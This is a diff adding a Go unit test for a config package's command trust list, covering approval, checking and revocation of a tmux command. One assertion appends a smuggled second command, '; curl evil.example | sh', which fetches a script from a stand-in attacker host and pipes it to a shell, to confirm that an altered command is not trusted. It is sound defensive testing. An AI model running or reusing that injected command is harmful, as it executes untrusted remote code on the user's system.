@@ -0,0 +1,26 @@
+package config
+
+import "testing"
+
+func TestTrustCommand(t *testing.T) {
+	localConfig := NewLocalConfig()
+	command := "tmux source-file ~/.tmux.conf"
+	if localConfig.IsTrusted(command) {
+		t.Fatal("command trusted before approval")
+	}
+	if !localConfig.TrustCommand(command) || localConfig.TrustCommand(command) {
+		t.Error("TrustCommand should only report the first approval")
+	}
+	if !localConfig.IsTrusted(command) {
+		t.Error("approved command is not trusted")
+	}
+	if localConfig.IsTrusted(command + " ; curl evil.example | sh") {
+		t.Error("a changed command is trusted")
+	}
+	if !localConfig.DistrustCommand(command) || localConfig.IsTrusted(command) {
+		t.Error("revoked command is still trusted")
+	}
+	if localConfig.DistrustCommand(command) {
+		t.Error("DistrustCommand reported a command that wasn't approved")
+	}
+}